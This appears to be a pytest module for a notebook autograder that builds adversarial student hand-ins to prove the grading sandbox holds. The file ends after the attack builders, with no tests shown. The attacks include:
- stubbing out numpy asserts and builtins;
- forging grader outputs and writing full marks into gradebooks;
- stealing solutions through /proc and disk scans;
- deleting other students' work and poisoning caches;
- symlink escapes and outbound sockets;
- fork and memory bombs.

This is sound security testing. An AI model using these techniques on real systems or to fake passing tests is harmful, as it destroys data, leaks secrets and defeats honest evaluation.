@@ -1,0 +1,1721 @@
+"""Students who attack the grader: a class of adversarial a1 hand-ins, graded in ONE real run.
+
+``python -m cnnkit grade`` runs every student notebook in a bubblewrap sandbox and decides the test
+verdicts in a separate, trusted process (``cnnkit.grading.sandbox``, ``cnnkit.grading.trusted``).
+This module is the proof. One module-scoped fixture builds a temporary nbgrader course
+(``nbgrader_config.py`` + ``solutions/``, released with ``nbgrader generate_assignment``) and hands
+in a1_convolution for a class: controls (``honest``, ``untouched``, ``wrong``, ``conv2d_none``) and
+attackers, each making ONE attack. Every ``attack_*`` helper below builds one hand-in; its
+docstring says what a student would try. The fixture also plants canaries:
+
+* ``instructor_secret.txt`` in the course root and in a fake instructor home (the grader's HOME);
+* a canary file in a fake data-set cache, given to the grader as ``CNNKIT_DATA``;
+* a canary environment variable ``CNNKIT_CANARY`` in the grader's environment;
+* a TCP listener on 127.0.0.1 whose port only the ``network`` attacker is told;
+* sha256 of every file under ``submitted/`` and ``solutions/``.
+
+Then it runs the real command once, as a subprocess, for the whole class::
+
+    python -m cnnkit grade a1_convolution --course COURSE --jobs 2 --cell-timeout 60 --timeout 600
+
+and each test reads that one run (return code, output, ``grading_report_a1_convolution.csv``,
+``grades.csv``, the files left behind, the processes left alive).
+
+The module is skipped unless ``cnnkit.grading.sandbox.available()`` is true. Two environment
+variables help when working on the grader:
+
+* ``CNNKIT_ATTACKS_FORCE=1`` runs it anyway, against a grader with no usable sandbox, to check that
+  the attacks are real (many tests then fail: that is the point). Without a sandbox some attacks
+  stay within this run so the machine running the tests is not harmed: ``proc_snoop`` and
+  ``hijack_kernel`` only look at processes carrying the grader's environment, ``poison_site``
+  only writes its (harmless, comment-only, removed afterwards) ``.pth`` file into site-packages and
+  the fake home, never into the checkout, and ``memory_bomb`` skips its growing allocation (and is
+  left out entirely where ``vm.overcommit_memory`` is 1).
+
+  Whatever the mode, ``available()`` only says bubblewrap works here, not that the grader really
+  uses it, so the attacks that could hurt the machine look before they strike: ``kill_parent``
+  sweeps (SIGKILL) only when no process outside a sandbox is in sight (else it notes what it could
+  have killed in an evidence file outside the course), the growing allocation of ``memory_bomb``
+  needs a memory limit in sight, the code ``hijack_kernel`` injects acts only in a kernel being
+  graded, ``proc_snoop`` prints only canary-like variables, ``vandal``, ``self_grade`` and
+  ``lurker`` never touch a folder holding ``.git`` or ``pyproject.toml`` (a real checkout), and
+  every bomb is bounded in time.
+* ``CNNKIT_ATTACKS_ONLY=name,name`` grades only these attackers (with the controls), to look at
+  one attack at a time; the other attackers' tests are skipped. Against an unsandboxed grader this
+  is how to see each attack: there ``vandal`` deletes every other student's autograded/ and
+  feedback/ folders and truncates the gradebook, which hides what the others leaked.
+
+Keep the run short: one grading run, 2 jobs, about 3 minutes on a 2-core machine.
+"""
+from __future__ import annotations
+
+import csv
+import hashlib
+import html
+import os
+import re
+import secrets
+import shutil
+import signal
+import site
+import socket
+import subprocess
+import sys
+import sysconfig
+import textwrap
+import threading
+import time
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Callable
+
+import pytest
+
+nbformat = pytest.importorskip("nbformat")
+
+REPO = Path(__file__).resolve().parents[1]
+BIN = Path(sys.executable).parent
+ASSIGNMENT = "a1_convolution"
+NOTEBOOK = f"{ASSIGNMENT}.ipynb"
+TIMESTAMP = "2026-11-20 10:00:00.000000 UTC"
+SOLUTION_MARKERS = ("### BEGIN SOLUTION", "### END SOLUTION", "### BEGIN HIDDEN TESTS", "### END HIDDEN TESTS")
+
+#: Autograded points of a1 (the other 4 of its 30 are graded by hand).
+AUTO_POINTS = 26.0
+#: What the controls must score, autograded points only.
+CONTROL_SCORES = {"honest": 26.0, "untouched": 0.0, "wrong": 4.0, "conv2d_none": 16.0}
+#: Words the report may use for a submission stopped by a limit of the sandbox.
+LIMIT_WORDS = ("resource limit", "kernel died", "timeout", "error")
+#: Seconds the fixture waits after the grader returns before it looks for processes left behind.
+SETTLE_SECONDS = 3.0
+
+FORCE = os.environ.get("CNNKIT_ATTACKS_FORCE") == "1"
+#: The only variables of the test's own environment handed to the grader (plus PATH, HOME and the canaries).
+ENV_KEPT = ("LANG", "LC_ALL", "TZ", "TMPDIR", "PYTHONPATH", "USER", "LOGNAME", "OMP_NUM_THREADS")
+
+pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("grading_attacks")]
+
+
+def sandbox_state() -> tuple[bool, str]:
+    """``(usable, reason)``: whether ``cnnkit.grading.sandbox`` exists and says it can run here.
+
+    Written so that this module imports (and skips cleanly) while that API does not exist yet.
+    """
+    try:
+        from cnnkit.grading import sandbox
+    except Exception as exc:  # noqa: BLE001 - missing module, or one that fails to import
+        return False, f"cnnkit.grading.sandbox cannot be imported ({exc!r}): the grader has no sandbox to attack"
+    available = getattr(sandbox, "available", None)
+    if not callable(available):
+        return False, "cnnkit.grading.sandbox has no available() function"
+    try:
+        usable = available()
+    except Exception as exc:  # noqa: BLE001
+        return False, f"cnnkit.grading.sandbox.available() raised {exc!r}"
+    if not usable:
+        why = getattr(sandbox, "unavailable_reason", None)
+        detail = why() if callable(why) else None
+        return False, (f"no usable grading sandbox on this machine: cnnkit.grading.sandbox.available() returned "
+                       f"{usable!r}" + (f" ({detail})" if detail else "") + "; set CNNKIT_ATTACKS_FORCE=1 to attack "
+                       "the unsandboxed grader anyway")
+    return True, ""
+
+
+# ----------------------------------------------------------------------------------------- notebook helpers
+def nbg(cell) -> dict:
+    return cell.get("metadata", {}).get("nbgrader", {})
+
+
+def strip_markers(source: str) -> str:
+    """The solution as a student would type it: the code between the markers, markers removed."""
+    return "\n".join(line for line in source.splitlines() if line.strip() not in SOLUTION_MARKERS)
+
+
+def regions(source: str, begin: str, end: str) -> list[str]:
+    """Lines inside ``begin`` ... ``end`` regions of a cell."""
+    inside, lines = False, []
+    for line in source.splitlines():
+        if line.strip() == begin:
+            inside = True
+        elif line.strip() == end:
+            inside = False
+        elif inside:
+            lines.append(line)
+    return lines
+
+
+def solved(source_nb, release_nb):
+    """The release with every solution cell (code and free text) filled in from the source."""
+    answers = {nbg(c)["grade_id"]: c.source for c in source_nb.cells if nbg(c).get("solution")}
+    nb = nbformat.from_dict(release_nb)
+    for cell in nb.cells:
+        if nbg(cell).get("solution"):
+            cell.source = strip_markers(answers[nbg(cell)["grade_id"]])
+    return nb
+
+
+def cell_by_id(nb, grade_id):
+    for cell in nb.cells:
+        if nbg(cell).get("grade_id") == grade_id:
+            return cell
+    raise KeyError(grade_id)
+
+
+def replace_in_cell(nb, grade_id, old, new):
+    cell = cell_by_id(nb, grade_id)
+    assert old in cell.source, (grade_id, old)
+    cell.source = cell.source.replace(old, new, 1)
+
+
+def insert_code_after(nb, grade_id, code):
+    index = next(i for i, c in enumerate(nb.cells) if nbg(c).get("grade_id") == grade_id)
+    nb.cells.insert(index + 1, nbformat.v4.new_code_cell(code))
+
+
+def insert_after_imports(nb, *codes: str):
+    """New code cells right after the first code cell (the imports), before any function or test."""
+    index = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
+    for offset, code in enumerate(codes, start=1):
+        nb.cells.insert(index + offset, nbformat.v4.new_code_cell(code))
+
+
+def append_code(nb, code: str):
+    nb.cells.append(nbformat.v4.new_code_cell(code))
+
+
+def code(template: str, **values) -> str:
+    """A cell's source: ``template`` dedented, each ``__NAME__`` replaced by ``repr(values[name])``."""
+    text = textwrap.dedent(template).strip() + "\n"
+    for name, value in values.items():
+        text = text.replace(f"__{name.upper()}__", repr(value))
+    return text
+
+
+@dataclass
+class Kit:
+    """What the hand-ins are built from: the source and release notebooks, and what an attacker is told."""
+
+    source: object
+    release: object
+    port: int                 # the fixture's TCP listener on 127.0.0.1
+    home: Path                # the instructor's home (the grader's HOME)
+    data: Path                # the data-set cache (the grader's CNNKIT_DATA)
+    evidence: Path            # outside the course: where kill_parent notes what it could kill (no sandbox only)
+    marks: dict               # per-run marker words (not secrets) an attack leaves behind
+    full_strength: bool       # a sandbox is claimed: attacks need not keep to this run's processes
+
+
+# ----------------------------------------------------------------------------------------- controls
+def honest(kit: Kit):
+    """The model solution, typed in by a student: every autograded point."""
+    return solved(kit.source, kit.release)
+
+
+def untouched(kit: Kit):
+    """The release handed back as it is: 0."""
+    return nbformat.from_dict(kit.release)
+
+
+def wrong(kit: Kit):
+    """A plain wrong submission: correlate2d adds 1 everywhere, conv2d returns zeros of the right shape.
+
+    Only the two size functions are right: 4 points.
+    """
+    nb = solved(kit.source, kit.release)
+    replace_in_cell(nb, "correlate2d", "return out", "return out + 1")
+    replace_in_cell(nb, "conv2d", "return out", "return np.zeros_like(out)")
+    return nb
+
+
+def conv2d_none(kit: Kit):
+    """The solution without conv2d (it returns None): 26 - 5 - 5 = 16 points."""
+    nb = solved(kit.source, kit.release)
+    cell_by_id(nb, "conv2d").source = (
+        "def conv2d(x, w, b=None, stride=1, padding=0):\n"
+        "    \"\"\"Not done yet.\"\"\"\n"
+        "    return None\n")
+    return nb
+
+
+# ----------------------------------------------------------------------------------------- the attacks
+COURSE_FINDER = '''
+import os
+from pathlib import Path
+
+
+def _protected(folder):
+    """A real checkout (the machine running these tests): left alone, whatever the attack."""
+    return (folder / ".git").exists() or (folder / "pyproject.toml").exists()
+
+
+def _course_like(folder):
+    return any((folder / name).exists() for name in
+               ("nbgrader_config.py", "gradebook.db", "submitted", "autograded", "feedback", "solutions"))
+
+
+def _reachable_courses():
+    """Every folder above this notebook that looks like (part of) an nbgrader course."""
+    here = Path(os.getcwd()).resolve()
+    return [folder for folder in [here, *here.parents] if _course_like(folder) and not _protected(folder)]
+'''
+
+
+def attack_patch_testing(kit: Kit):
+    """Wrong code, and the first cell turns numpy's checks into no-ops so every comparison "passes"."""
+    nb = wrong(kit)
+    insert_after_imports(nb, code('''
+        import numpy.testing
+        import numpy.testing._private.utils as _np_utils
+
+
+        def _fine(*args, **kwargs):
+            return None
+
+
+        for _name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_equal",
+                      "assert_almost_equal"):
+            setattr(np.testing, _name, _fine)
+            setattr(_np_utils, _name, _fine)
+        np.allclose = lambda *args, **kwargs: True
+        print("numpy.testing now agrees with everything")
+    '''))
+    return nb
+
+
+def attack_null_forbid(kit: Kit):
+    """Switch off the integrity guard (forbid / CallRecorder become null context managers) and hand
+    correlate2d, convolve2d, conv2d and edge_strength to the kit's reference ``cnnkit.ops``.
+
+    The two size functions are written honestly with plain arithmetic: at most those 4 points.
+    """
+    nb = solved(kit.source, kit.release)
+    cell_by_id(nb, "correlate2d").source = code('''
+        import cnnkit.integrity
+
+
+        class _LetEverythingThrough:
+            """Stands in for integrity.forbid and CallRecorder: watches nothing, never complains."""
+
+            calls = []
+            tampered = False
+            clean = True
+
+            def __init__(self, *args, **kwargs):
+                pass
+
+            def __enter__(self):
+                return self
+
+            def __exit__(self, *exc_info):
+                return False
+
+            def report(self, limit=5):
+                return "no calls"
+
+
+        cnnkit.integrity.forbid = _LetEverythingThrough
+        cnnkit.integrity.CallRecorder = _LetEverythingThrough
+        cnnkit.integrity.call_clean = lambda func, *args, **kwargs: func(*args, **kwargs)
+
+
+        def correlate2d(image, kernel):
+            from cnnkit import ops
+            return ops.correlate2d(image, kernel)
+    ''')
+    cell_by_id(nb, "convolve2d").source = code('''
+        def convolve2d(image, kernel):
+            from cnnkit import ops
+            return ops.convolve2d(image, kernel)
+    ''')
+    cell_by_id(nb, "conv2d").source = code('''
+        def conv2d(x, w, b=None, stride=1, padding=0):
+            from cnnkit import ops
+            out = ops.conv2d(x, w, b, stride=stride, padding=padding)
+            return out[0] if isinstance(out, tuple) else out
+    ''')
+    cell_by_id(nb, "edge_strength").source = code('''
+        def edge_strength(image):
+            from cnnkit import ops
+            return np.hypot(ops.correlate2d(image, filters.sobel_x()), ops.correlate2d(image, filters.sobel_y()))
+    ''')
+    return nb
+
+
+def attack_read_solutions(kit: Kit):
+    """Find the instructor's solutions notebook at run time (above the cwd, above sys.path and the kit,
+    through /proc/*/cwd, a bounded search of the whole disk), exec its solution code, and print it
+    so the feedback shows it. Where nothing is found, nothing is defined: 0.
+    """
+    nb = nbformat.from_dict(kit.release)
+    cell_by_id(nb, "correlate2d").source = code('''
+        import glob
+        import json
+        import os
+        import sys
+        import time
+        from pathlib import Path
+
+        WANTED = Path("solutions") / "a1_convolution" / "a1_convolution.ipynb"
+
+
+        def _starts():
+            yield os.getcwd()
+            yield from sys.path
+            yield os.environ.get("HOME", "")
+            yield os.environ.get("PWD", "")
+            try:
+                import cnnkit
+                yield os.path.dirname(cnnkit.__file__)
+            except Exception:
+                pass
+            for link in glob.glob("/proc/[0-9]*/cwd"):
+                yield link  # works as a path even where readlink is refused
+                try:
+                    yield os.readlink(link)
+                except OSError:
+                    pass
+
+
+        def _find_solutions():
+            for start in _starts():
+                if not start:
+                    continue
+                folder = Path(start)
+                for above in [folder, *folder.parents]:
+                    try:
+                        if (above / WANTED).is_file():
+                            return above / WANTED
+                    except OSError:
+                        pass
+            deadline = time.monotonic() + 8  # then the whole disk, as far as 8 seconds go
+            for top, dirs, files in os.walk("/"):
+                if time.monotonic() > deadline or top.count(os.sep) > 9 or top in ("/proc", "/sys", "/dev"):
+                    dirs[:] = []
+                    continue
+                if top.endswith(os.path.join("solutions", "a1_convolution")):
+                    for name in files:
+                        if name.endswith(".ipynb"):
+                            return Path(top) / name
+            return None
+
+
+        _found = _find_solutions()
+        STOLEN = {}
+        if _found is not None:
+            for _cell in json.loads(_found.read_text())["cells"]:
+                _meta = _cell.get("metadata", {}).get("nbgrader", {})
+                if _meta.get("solution") and _cell["cell_type"] == "code":
+                    _src = _cell["source"]
+                    STOLEN[_meta["grade_id"]] = "".join(_src) if isinstance(_src, list) else _src
+        print("solutions found at", _found)
+        print(STOLEN.get("conv2d", "no conv2d solution found"))
+        exec(STOLEN.get("correlate2d", ""))
+    ''')
+    for grade_id in ("convolve2d", "conv2d", "sizes", "edge_strength"):
+        cell_by_id(nb, grade_id).source = f"exec(STOLEN.get({grade_id!r}, ''))\n"
+    return nb
+
+
+def attack_vandal(kit: Kit):
+    """Walk up from the cwd and wreck the course: delete every other student's folder under any
+    submitted/, autograded/, feedback/, truncate every gradebook (*.db) in reach, delete solutions/.
+    Implements nothing itself.
+    """
+    nb = nbformat.from_dict(kit.release)
+    insert_after_imports(nb, COURSE_FINDER + code('''
+        import shutil
+
+        ME = "vandal"
+        damage = []
+        for root in _reachable_courses():
+            for top, dirs, files in os.walk(root):
+                top = Path(top)
+                if _protected(top) or len(top.relative_to(root).parts) > 7:
+                    dirs[:] = []
+                    continue
+                if top.name == "solutions":
+                    shutil.rmtree(top, ignore_errors=True)
+                    damage.append(f"deleted {top}")
+                    dirs[:] = []
+                    continue
+                if top.name in ("submitted", "autograded", "feedback"):
+                    for other in [d for d in dirs if d != ME]:
+                        shutil.rmtree(top / other, ignore_errors=True)
+                        damage.append(f"deleted {top / other}")
+                    dirs[:] = [d for d in dirs if d == ME]
+                for name in files:
+                    if name.endswith(".db"):
+                        try:
+                            with open(top / name, "r+b") as fh:
+                                fh.truncate(0)
+                            damage.append(f"truncated {top / name}")
+                        except OSError as exc:
+                            damage.append(f"could not truncate {top / name}: {exc}")
+        print(len(damage), "things destroyed")
+        print("\\n".join(damage[:60]))
+    '''))
+    return nb
+
+
+def attack_env_leak(kit: Kit):
+    """Print the kernel's environment, and save it in a file next to the notebook (hoping the file
+    comes back with the feedback)."""
+    nb = nbformat.from_dict(kit.release)
+    insert_after_imports(nb, code('''
+        import json
+        import os
+
+        print(json.dumps(dict(os.environ), indent=1, sort_keys=True))
+        with open("environment_of_the_grader.txt", "w") as fh:
+            for key, value in sorted(os.environ.items()):
+                fh.write(f"{key}={value}\\n")
+    '''))
+    return nb
+
+
+def attack_proc_snoop(kit: Kit):
+    """Read what /proc shows of other processes: /proc/1 and the parent's environ and cmdline, the
+    parent's memory, every /proc/*/environ, and where every process's cwd and root lead; print it.
+    (Of the environments only canary-like variables are printed: that is what the test looks for,
+    and no real secret of the machine running the tests ends up in a file.) Implements nothing.
+    """
+    nb = nbformat.from_dict(kit.release)
+    insert_after_imports(nb, code('''
+        import glob
+        import os
+        import re
+
+
+        def _read(path, limit=1 << 16):
+            try:
+                with open(path, "rb") as fh:
+                    return fh.read(limit).replace(b"\\0", b" ").decode(errors="replace")
+            except Exception as exc:
+                return f"<{type(exc).__name__}: {exc}>"
+
+
+        THIS_RUN_ONLY = __THIS_RUN_ONLY__  # no sandbox: look only at this grading run's processes
+
+
+        def _ours(entry):
+            return not THIS_RUN_ONLY or "CNNKIT_CANARY=" in _read(entry + "/environ")
+
+
+        _interesting = re.compile(r"[A-Za-z_]*CANARY[A-Za-z_]*=\\S+")
+        parent = os.getppid()
+        print("parent:", parent)
+        for entry in ["/proc/1", f"/proc/{parent}"]:
+            if _ours(entry):
+                print(entry + "/environ:", sorted(set(m.group(0) for m in _interesting.finditer(_read(entry + "/environ")))))
+                print(entry + "/cmdline:", _read(entry + "/cmdline"))
+        for entry in sorted(e for e in glob.glob("/proc/[0-9]*") if _ours(e)):
+            print(entry, "environ:", sorted(set(m.group(0) for m in _interesting.finditer(_read(entry + "/environ")))))
+            for kind in ("cwd", "root"):
+                try:
+                    target = os.readlink(f"{entry}/{kind}")
+                    listing = sorted(os.listdir(f"{entry}/{kind}"))[:30]
+                except OSError as exc:
+                    target, listing = f"<{exc}>", []
+                print(entry, kind, "->", target, listing)
+        found = set()
+        try:
+            if not _ours(f"/proc/{parent}"):
+                raise PermissionError("not this run's process")
+            with open(f"/proc/{parent}/maps") as maps, open(f"/proc/{parent}/mem", "rb", 0) as mem:
+                budget = 256 << 20
+                for line in maps:
+                    span, perms = line.split()[:2]
+                    if not perms.startswith("rw") or budget <= 0:
+                        continue
+                    start, end = (int(v, 16) for v in span.split("-"))
+                    size = min(end - start, budget, 64 << 20)
+                    budget -= size
+                    try:
+                        mem.seek(start)
+                        chunk = mem.read(size)
+                    except (OSError, OverflowError, ValueError):
+                        continue
+                    found |= {m.group(0).decode(errors="replace")
+                              for m in re.finditer(rb"[A-Za-z_]*CANARY[A-Za-z_]*=[\\x21-\\x7e]{1,80}", chunk)}
+            print("parent memory:", sorted(found)[:40])
+        except Exception as exc:
+            print("parent memory unreadable:", repr(exc))
+    ''', this_run_only=not kit.full_strength))
+    return nb
+
+
+def attack_symlink_escape(kit: Kit):
+    """Hand in symlinks next to the notebook (``escape -> /``, ``up -> ../../..``, ``peer -> the honest
+    student's folder``, and file links to the instructor's secrets, which a copy would follow), then
+    read ``instructor_secret.txt`` by every route and write into the honest student's hand-in.
+    """
+    nb = nbformat.from_dict(kit.release)
+    insert_after_imports(nb, code('''
+        import os
+        from pathlib import Path
+
+        INSTRUCTOR_HOME = __HOME__   # known from the course's set-up guide, say
+        here = Path.cwd()
+        routes = ["up/instructor_secret.txt", "secret_link.txt", "home_secret.txt",
+                  f"escape{INSTRUCTOR_HOME}/instructor_secret.txt", f"{INSTRUCTOR_HOME}/instructor_secret.txt",
+                  os.path.expanduser("~/instructor_secret.txt")]
+        for folder in [here, *here.parents]:
+            routes += [f"{folder}/instructor_secret.txt", f"escape{folder}/instructor_secret.txt",
+                       f"{folder}/submitted/symlink_escape/a1_convolution/up/instructor_secret.txt",
+                       f"{folder}/submitted/symlink_escape/a1_convolution/secret_link.txt"]
+        for route in routes:
+            try:
+                print(route, "->", Path(route).read_text()[:200])
+            except OSError as exc:
+                print(route, "->", type(exc).__name__)
+
+        peers = ["peer"] + [f"{folder}/{sub}" for folder in [here, *here.parents]
+                            for sub in ("submitted/symlink_escape/a1_convolution/peer", "submitted/honest/a1_convolution")]
+        for peer in peers:
+            try:
+                Path(peer, "a1_convolution.ipynb").write_text("{}")
+                Path(peer, "timestamp.txt").write_text("2020-01-01 00:00:00.000000 UTC")
+                print("wrote into", peer)
+            except OSError as exc:
+                print("could not write into", peer, type(exc).__name__)
+    ''', home=str(kit.home)))
+
+    def hand_in(folder: Path) -> None:
+        nbformat.write(nb, folder / NOTEBOOK)
+        os.symlink("/", folder / "escape")
+        os.symlink("../../..", folder / "up")
+        os.symlink("../../honest/a1_convolution", folder / "peer")
+        os.symlink("../../../instructor_secret.txt", folder / "secret_link.txt")
+        os.symlink(str(kit.home / "instructor_secret.txt"), folder / "home_secret.txt")
+
+    return hand_in
+
+
+def attack_cache_write(kit: Kit):
+    """Poison the data-set cache every later student (and the instructor) loads from: overwrite and
+    delete the files of $CNNKIT_DATA, ~/.cache/cnnkit and the instructor's cache, and add a file."""
+    nb = nbformat.from_dict(kit.release)
+    insert_after_imports(nb, code('''
+        import os
+        from pathlib import Path
+
+        places = {os.environ.get("CNNKIT_DATA"), str(Path.home() / ".cache" / "cnnkit"), __DATA__,
+                  __HOME__ + "/.cache/cnnkit"}
+        try:
+            import cnnkit.config
+            places.add(str(cnnkit.config.data_root()))
+        except Exception:
+            pass
+        for place in sorted(p for p in places if p):
+            folder = Path(place)
+            try:
+                files = [p for p in folder.rglob("*") if p.is_file()]
+            except OSError:
+                files = []
+            for path in files:
+                for action in ("overwrite", "delete"):
+                    try:
+                        if action == "overwrite":
+                            path.write_bytes(b"poisoned by a student")
+                        else:
+                            path.unlink()
+                        print(action, path, "done")
+                    except OSError as exc:
+                        print(action, path, type(exc).__name__)
+            try:
+                folder.mkdir(parents=True, exist_ok=True)
+                (folder / "mnist.npz").write_bytes(b"poisoned by a student")
+                print("added", folder / "mnist.npz")
+            except OSError as exc:
+                print("could not add a file to", folder, type(exc).__name__)
+    ''', data=str(kit.data), home=str(kit.home)))
+    return nb
+
+
+def attack_self_grade(kit: Kit):
+    """Grade yourself: write a fake autograded notebook and gradebook next to the notebook, give
+    yourself full marks (manual scores and extra credit) in every gradebook.db in reach, and run
+    ``nbgrader autograde`` on the course. Implements nothing: 0.
+    """
+    nb = nbformat.from_dict(kit.release)
+    insert_after_imports(nb, COURSE_FINDER + code('''
+        import json
+        import shutil
+        import sqlite3
+        import subprocess
+        import sys
+
+        ME, ASSIGNMENT = "self_grade", "a1_convolution"
+
+
+        def _full_marks(db):
+            try:
+                from nbgrader.api import Gradebook
+                with Gradebook(f"sqlite:///{db}", course_id="cnnkit") as gb:
+                    gb.update_or_create_student(ME)
+                    submission = gb.update_or_create_submission(ASSIGNMENT, ME)
+                    for notebook in submission.notebooks:
+                        for grade in notebook.grades:
+                            grade.manual_score = grade.max_score
+                            grade.extra_credit = 10
+                    gb.db.commit()
+                return "full marks through nbgrader's API"
+            except Exception as exc:
+                first = repr(exc)[:200]
+            try:
+                con = sqlite3.connect(db, timeout=10)
+                con.execute("UPDATE grade SET manual_score = 100, extra_credit = 10 WHERE notebook_id IN ("
+                            "SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
+                            "ON sn.assignment_id = sa.id WHERE sa.student_id = ?)", (ME,))
+                con.commit()
+                con.close()
+                return "full marks through SQL"
+            except Exception as exc:
+                return f"failed: {first}; {exc!r}"[:300]
+
+
+        found = []
+        for root in _reachable_courses():
+            for top, dirs, files in os.walk(root):
+                if _protected(Path(top)) or len(Path(top).relative_to(root).parts) > 7:
+                    dirs[:] = []
+                    continue
+                found += [Path(top) / name for name in files if name == "gradebook.db"]
+        for db in dict.fromkeys(found):
+            print(db, "->", _full_marks(db))
+
+        # a fake autograded notebook and gradebook next to this notebook, and in every course found
+        fake_nb = {"cells": [], "metadata": {"grades": {"total": 30}}, "nbformat": 4, "nbformat_minor": 5}
+        for folder in [Path("autograded") / ME / ASSIGNMENT] + [c / "autograded" / ME / ASSIGNMENT
+                                                                for c in _reachable_courses()]:
+            try:
+                folder.mkdir(parents=True, exist_ok=True)
+                (folder / "a1_convolution.ipynb").write_text(json.dumps(fake_nb))
+                print("fake autograded notebook in", folder)
+            except OSError as exc:
+                print("no fake notebook in", folder, type(exc).__name__)
+        try:
+            con = sqlite3.connect("gradebook.db")
+            con.execute("CREATE TABLE IF NOT EXISTS grades (student TEXT, score REAL)")
+            con.execute("INSERT INTO grades VALUES (?, 30)", (ME,))
+            con.commit()
+            con.close()
+        except Exception as exc:
+            print("no fake gradebook:", exc)
+
+        if not os.environ.get("SELF_GRADE_INNER"):
+            for course in _reachable_courses():
+                if (course / "nbgrader_config.py").exists():
+                    try:
+                        done = subprocess.run(
+                            [sys.executable, "-m", "nbgrader", "autograde", ASSIGNMENT, "--student", ME, "--force"],
+                            cwd=course, env={**os.environ, "SELF_GRADE_INNER": "1"}, capture_output=True, text=True,
+                            timeout=45)
+                        print("nbgrader autograde in", course, "exit", done.returncode, done.stderr[-300:])
+                    except Exception as exc:
+                        print("nbgrader autograde failed:", repr(exc)[:200])
+    '''))
+    return nb
+
+
+def attack_forged_outputs(kit: Kit):
+    """Wrong code in a doctored file: every test cell comes with outputs claiming success ("ok", a
+    partial-credit "5.0") and execution counts, test points raised to 100, checksums replaced, a test's
+    grade id put on a solution cell, and two extra cells posing as tests worth 50 points each."""
+    nb = wrong(kit)
+    count = 0
+    for cell in nb.cells:
+        if cell.cell_type != "code":
+            continue
+        count += 1
+        cell.execution_count = count
+        meta = nbg(cell)
+        if meta.get("grade"):
+            cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="ok\n"),
+                            nbformat.v4.new_output("execute_result", data={"text/plain": "5.0"},
+                                                   execution_count=count)]
+            meta["points"] = 100
+            meta["checksum"] = "0" * 32
+    nbg(cell_by_id(nb, "conv2d")).update(grade_id="test_conv2d_basic", grade=True, points=100)
+    for _ in range(2):
+        count += 1
+        bonus = nbformat.v4.new_code_cell("pass", execution_count=count)
+        bonus.metadata["nbgrader"] = {"grade": True, "grade_id": "test_bonus", "locked": True, "points": 50,
+                                      "solution": False, "schema_version": 3, "task": False,
+                                      "checksum": "f" * 32}
+        bonus.outputs = [nbformat.v4.new_output("stream", name="stdout", text="ok\n")]
+        nb.cells.append(bonus)
+    return nb
+
+
+def attack_network(kit: Kit):
+    """Reach the network: a service on the grading machine's 127.0.0.1 (its port hard-coded, as if
+    read from the course forum) and the outside world (1.1.1.1:80). Implements nothing."""
+    nb = nbformat.from_dict(kit.release)
+    insert_after_imports(nb, code('''
+        import socket
+
+        REACHED = "NETWORK" + "-REACHED"
+        for host, port in (("127.0.0.1", __PORT__), ("1.1.1.1", 80)):
+            try:
+                with socket.create_connection((host, port), timeout=2.0) as conn:
+                    conn.sendall(b"hello from a student notebook\\n")
+                    print(REACHED, host, port)
+            except OSError as exc:
+                print("no connection to", host, port, repr(exc))
+    ''', port=kit.port))
+    return nb
+
+
+def attack_fork_bomb(kit: Kit):
+    """A fork bomb: every process forks again, up to 2**10 processes, for 15 seconds (bounded so a
+    machine without limits survives it too; children never return to the kernel's code)."""
+    nb = nbformat.from_dict(kit.release)
+    insert_after_imports(nb, code('''
+        import os
+        import time
+
+
+        def bomb(seconds=15.0, generations=10):
+            root = os.getpid()
+            deadline = time.monotonic() + seconds
+            made = refused = 0
+            try:
+                while time.monotonic() < deadline and made < generations:
+                    try:
+                        pid = os.fork()
+                    except OSError:
+                        refused += 1
+                        time.sleep(0.2)
+                        continue
+                    made += 1  # the parent and the child both go on forking
+                while time.monotonic() < deadline:
+                    time.sleep(0.2)
+                while True:
+                    try:
+                        os.waitpid(-1, 0)
+                    except ChildProcessError:
+                        break
+            finally:
+                if os.getpid() != root:
+                    os._exit(0)  # a child never returns into the kernel
+            return made, refused
+
+
+        print("forked %d times, %d forks refused" % bomb())
+    '''))
+    return nb
+
+
+def attack_memory_bomb(kit: Kit):
+    """Ask for more memory than the machine has: a 50 GB numpy array, a 40 GiB bytearray and (with a
+    sandbox in place, and a memory limit in sight) 256 MiB more, touched, again and again up to 64 GiB.
+    Implements nothing."""
+    nb = nbformat.from_dict(kit.release)
+    cells = ["big = np.ones(50_000_000_000 // 8)\nprint(big.nbytes)\n",
+             "blob = bytearray(40 * 2**30)\nprint(len(blob))\n"]
+    if kit.full_strength:
+        cells.append(code('''
+            import resource
+
+            def _memory_limited():
+                """A limit this process can see (address space, or a cgroup's memory.max): growing is safe."""
+                if resource.getrlimit(resource.RLIMIT_AS)[0] != resource.RLIM_INFINITY:
+                    return True
+                try:
+                    return open("/sys/fs/cgroup/memory.max").read().strip() != "max"
+                except OSError:
+                    return False
+
+            chunks = []
+            try:
+                if _memory_limited():
+                    for _ in range(256):
+                        chunks.append(np.ones(32 * 2**20))  # 256 MiB, every page touched
+                else:
+                    print("no memory limit in sight: not growing")
+            finally:
+                print("held", 256 * len(chunks), "MiB")
+                del chunks
+        '''))
+    insert_after_imports(nb, *cells)
+    return nb
+
+
+def attack_patch_builtins(kit: Kit):
+    """The solution without conv2d (it returns None), plus a cell that rewires the interpreter:
+    AssertionError becomes a class nobody raises, isinstance / abs / print lie, sys.setprofile is a
+    no-op (with a sys.getprofile that plays along, so the integrity guard sees nothing amiss), and the
+    kit's reference conv2d / correlate2d return the student's own results."""
+    nb = conv2d_none(kit)
+    insert_after_imports(nb, code('''
+        import builtins
+        import sys
+
+        import cnnkit.ops
+
+
+        class _NobodyRaisesThis(Exception):
+            """Now what `AssertionError` means: `except AssertionError` catches nothing real."""
+
+
+        _real_isinstance, _real_print = builtins.isinstance, builtins.print
+        builtins.AssertionError = _NobodyRaisesThis
+        builtins.isinstance = lambda obj, kind: True if kind is np.ndarray else _real_isinstance(obj, kind)
+        builtins.abs = lambda value: 0
+        _profile = [None]
+
+
+        def _setprofile(func):
+            _profile[0] = func
+
+
+        sys.setprofile = _setprofile
+        sys.getprofile = lambda: _profile[0]
+        cnnkit.ops.conv2d = lambda *args, **kwargs: globals()["conv2d"](*args, **kwargs)
+        cnnkit.ops.correlate2d = lambda *args, **kwargs: globals()["correlate2d"](*args, **kwargs)
+        builtins.print = lambda *args, **kwargs: None
+    '''))
+    return nb
